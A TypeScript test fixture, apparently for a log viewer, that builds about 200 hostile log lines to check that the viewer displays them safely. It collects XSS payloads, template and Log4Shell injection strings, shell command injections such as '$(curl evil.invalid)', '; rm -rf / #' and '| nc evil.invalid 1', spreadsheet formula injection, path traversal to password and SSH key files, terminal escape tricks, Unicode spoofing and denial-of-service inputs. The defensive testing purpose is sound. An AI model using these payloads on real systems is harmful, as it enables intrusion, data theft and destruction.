/**
 * 200 log lines written to do harm to whoever shows them: as markup, as an address, as a command, as work without end. Each
 * that could run anything would call `loupeOwned`, or ask the host `evil.invalid`.
 */

export interface Construct {
  readonly kind: string;
  /** One line of a log, after its time and level; may hold any bytes but a line end. */
  readonly bytes: Buffer;
}

const RUN = 'loupeOwned()';
const HOST = 'https://evil.invalid';
const ESC = '\u001b';
const BEL = '\u0007';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt/x>${RUN}</sCrIpT >`,
  `<script src=${HOST}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${HOST}/pixel.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${HOST}/x.swf">`,
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<link rel=prefetch href=${HOST}/x>`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/">`,
  `<form action=${HOST}><button autofocus onfocus=${RUN}>go</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${HOST}/a.mp3 autoplay></audio>`,
  `<marquee onstart=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import "${HOST}/x.css"; body{background:url(${HOST}/bg)}</style>`,
  `<div style="background:url(${HOST}/d)">`,
  `<a href="javascript:${RUN}" id=clickme>click</a>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `\`;${RUN};//`,
  `*/${RUN}/*`,
  `-->${'<'}script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<x onpointerenter=${RUN} style=position:fixed;inset:0;z-index:99>x`,
  `<dialog open><form method=dialog action=${HOST}>x</form></dialog>`,
  `<portal src=${HOST}>`,
  `<a ping=${HOST}/ping href=#>x</a>`,
  `<img srcset="${HOST}/1x 1x, ${HOST}/2x 2x">`,
  `<slot onslotchange=${RUN}></slot><p slot=x>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5sb3VwZU93bmVkKCk8L3NjcmlwdD4=`,
  `blob:${HOST}/0`,
  `file:///etc/passwd`,
  `filesystem:${HOST}/temporary/x`,
  `view-source:${HOST}`,
  `${HOST}/?q=<script>${RUN}</script>`,
  `//evil.invalid/x`,
  `https://user:password@evil.invalid/`,
  `https://evil.invalid%00.localhost/`,
  `http://[::ffff:127.0.0.1]/`,
  `ms-msdt:/id PCWDiagnostic`,
  `tel:+1-900-555-0100`,
  `mailto:x@evil.invalid?body=secret`,
];

const MARKDOWN = [
  `![x](${HOST}/md.png)`,
  `[click](javascript:${RUN})`,
  `<${HOST}/auto>`,
  `[x]: ${HOST}/ref "t"`,
  '```html\\n<script>loupeOwned()</script>\\n```',
  `| a | <img src=x onerror=${RUN}> |`,
  `# <b onmouseover=${RUN}>head</b>`,
  `[[javascript:${RUN}|wiki]]`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%import os%}{{os.system('id')}}`,
  `{{7*7}}[[7*7]]`,
  `\${jndi:ldap://evil.invalid/a}`,
  `%{(#a=@java.lang.Runtime@getRuntime())}`,
  `$(curl evil.invalid)`,
  `\`curl evil.invalid\``,
  `; rm -rf / #`,
  `| nc evil.invalid 1`,
  `' OR '1'='1' --`,
  `__proto__.polluted=1`,
  `{"__proto__":{"polluted":true}}`,
  `{"constructor":{"prototype":{"polluted":true}}}`,
  `{"toString":"x","hasOwnProperty":1,"then":"y"}`,
  `%s%s%s%n%x %c color:red`,
  `<!ENTITY x SYSTEM "file:///etc/passwd"> &x;`,
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>`,
];

const TERMINAL = [
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[38;5;196m256${ESC}[48;2;1;2;3mtrue${ESC}[m`,
  `${ESC}[2J${ESC}[H cleared`,
  `${ESC}]0;title${BEL}`,
  `${ESC}]8;;${HOST}/osc${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;javascript:${RUN}${BEL}link${ESC}]8;;${BEL}`,
  `${ESC}]52;c;bG91cGU=${BEL}`,
  `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[999999999999999999999m wide`,
  `${ESC}[${'1;'.repeat(5000)}m many`,
  `${ESC}[8mhidden${ESC}[28m`,
  `${ESC}[31${ESC}[32${ESC}[33 never ends`,
  `${ESC}_Gf=100;AAAA${ESC}\\`,
  `\u009b31m C1`,
  `over\rwritten`,
  `back\b\b\b\b\bspace`,
  `${ESC}c reset ${ESC}[6n ${ESC}[?1049h`,
];

const UNICODE = [
  'access \u202egnp.exe\u202c granted',
  '\u2066isolated\u2069 \u2067right\u2069 \u2068first\u2069',
  '\u200fmark \u200emark \u061c',
  '\u202a'.repeat(500),
  'pаypal.com is not paypal.com',
  'аdmin раsswоrd',
  'ＡＤＭＩＮ ｓｃｒｉｐｔ',
  `＜script＞${RUN}＜/script＞`,
  'zero\u200bwidth\u200cjoin\u200der\u2060word\ufeff',
  `Z${'\u0351\u0353\u0325'.repeat(400)}algo`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(200),
  '\u{e0001}\u{e0041}\u{e007f} tags',
  '\ufdfd'.repeat(100),
  'ﷺ꧅𒐫',
  'İıſK case',
  '\u0085next\u2028line\u2029paragraph',
  '\u00ad'.repeat(300),
  'e\u0301 and é',
  '\ufffd\ufffe\uffff',
  '\u{10ffff}\u{f0000}\ue000',
  'جهاز 192.168.0.1 خطأ',
  'שלום <b> עולם',
];

const TABLES = [
  `=cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=HYPERLINK("${HOST}/?x="&A1,"x")`,
  `=IMPORTXML("${HOST}","//a")`,
  `\t=1+1`,
  `"a,""b"",c"`,
  `=WEBSERVICE("${HOST}")`,
  `%0A=1+1`,
];

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config\\sam',
  '/proc/self/environ',
  'file=....//....//etc/shadow',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'C:\\CON\\PRN\\AUX.log',
  '\\\\evil.invalid\\share\\x',
  'name=a\u0000.log',
  `name=${'a'.repeat(300)}.log`,
  '~root/.ssh/id_rsa',
];

// What costs a careless expression exponential or square time.
const BAIT = [
  `${'a'.repeat(30_000)}!`,
  `${' '.repeat(30_000)}x`,
  `x="${'\\"'.repeat(15_000)}`,
  `${'key='.repeat(8000)}`,
  `${'k="v" '.repeat(5000)}`,
  `${'['.repeat(20_000)}`,
  `${'("'.repeat(10_000)}`,
  `${'1.'.repeat(15_000)}`,
  `${'1:'.repeat(15_000)}`,
  `${'12-34T'.repeat(5000)}`,
  `${'::'.repeat(10_000)}1`,
  `${'/a'.repeat(15_000)}?`,
  `${'at a.b(c.d:1) '.repeat(3000)}`,
  `${'Caused by: '.repeat(3000)}`,
  `https://${'a.'.repeat(10_000)}`,
  `${'x@'.repeat(10_000)}`,
  `${'<a '.repeat(10_000)}`,
  `${'\t'.repeat(20_000)}|`,
];

/** Lines that other formats read: what is in their fields is as hostile. */
const FIELDS = [
  `{"level":"error","msg":"<img src=x onerror=${RUN}>","url":"javascript:${RUN}","user":"=1+1"}`,
  `{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
  `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  `${'{"a":'.repeat(20_000)}`,
  `{"lol":"${'lol'.repeat(20_000)}"}`,
  `{"lolz":[${Array.from({ length: 10 }, (_, i) => `{"l${i}":[${'"lol",'.repeat(500)}0]}`).join()}]}`,
  `{${Array.from({ length: 5000 }, (_, i) => `"k${i}":${i}`).join()}}`,
  `{${'"same":1,'.repeat(5000)}"same":2}`,
  `{"n":${'9'.repeat(20_000)},"e":1e999999999,"m":-0}`,
  `{"s":"${'\\u0000'.repeat(3000)}"}`,
  `{"s":"\\ud800 lone \\udfff"}`,
  `{"":"empty","\\u003cb\\u003e":"<b>"}`,
  `level=error msg="<script>${RUN}</script>" url=${HOST}/kv time=9999999999999999999`,
  `user="${'\\\\'.repeat(8000)}" ok=1`,
  `at <script>${RUN}</script>.method(${HOST}/app.js:1:1)`,
  `127.0.0.1 - - [19/May/2026:10:00:00 +0000] "GET /<script>${RUN}</script> HTTP/1.1" 200 1 "${HOST}/referer" "<img src=x onerror=${RUN}>"`,
];

const RAW = [
  Buffer.from([0x00, 0x00, 0x41, 0x00]),
  Buffer.concat([Buffer.alloc(2000), Buffer.from('after NULs')]),
  Buffer.from([0xff, 0xfe, 0xfd, 0xfc]),
  Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf]), // overlong
  Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xbf, 0xbf]), // surrogates
  Buffer.from([0xf4, 0x90, 0x80, 0x80]), // above U+10FFFF
  Buffer.from([0xe2, 0x82]), // broken off
  Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(`script>${RUN}`)]), // overlong <
];

const KINDS: Readonly<Record<string, readonly (string | Buffer)[]>> = {
  script: SCRIPTS,
  address: ADDRESSES,
  markdown: MARKDOWN,
  template: TEMPLATES,
  terminal: TERMINAL,
  unicode: UNICODE,
  table: TABLES,
  path: PATHS,
  bait: BAIT,
  field: FIELDS,
  raw: RAW,
};

export const CONSTRUCTS: readonly Construct[] = Object.entries(KINDS).flatMap(([kind, list]) =>
  list.map((one) => ({ kind, bytes: typeof one === 'string' ? Buffer.from(one) : one })),
);

/** All of them as one log, every second an error, each with a trace of the same kind below it now and then. */
export function hostileLog(): Buffer {
  const lines = CONSTRUCTS.flatMap(({ kind, bytes }, at) => {
    const time = new Date(Date.UTC(2026, 4, 19, 10) + at * 1000).toISOString().replace('T', ' ').replace('Z', '');
    const head = Buffer.from(`${time} ${at % 2 === 0 ? 'ERROR' : 'INFO '} [${kind}-${at}] `);
    const line = Buffer.concat([head, bytes, Buffer.from('\n')]);
    return at % 10 === 4 ? [line, Buffer.from('    at '), bytes, Buffer.from('\n')] : [line];
  });
  return Buffer.concat(lines);
}

/** Those that a format of their own reads, as a second source: one JSON object a line. */
export function hostileJson(): Buffer {
  const lines = CONSTRUCTS.map(({ kind, bytes }, at) =>
    JSON.stringify({
      time: new Date(Date.UTC(2026, 4, 19, 10) + at * 1000).toISOString(),
      level: at % 3 === 0 ? 'error' : 'info',
      [`<b>${kind}`]: bytes.toString('utf8').slice(0, 2000),
      msg: bytes.toString('utf8').slice(0, 2000),
    }),
  );
  return Buffer.from(`${lines.join('\n')}\n`);
}
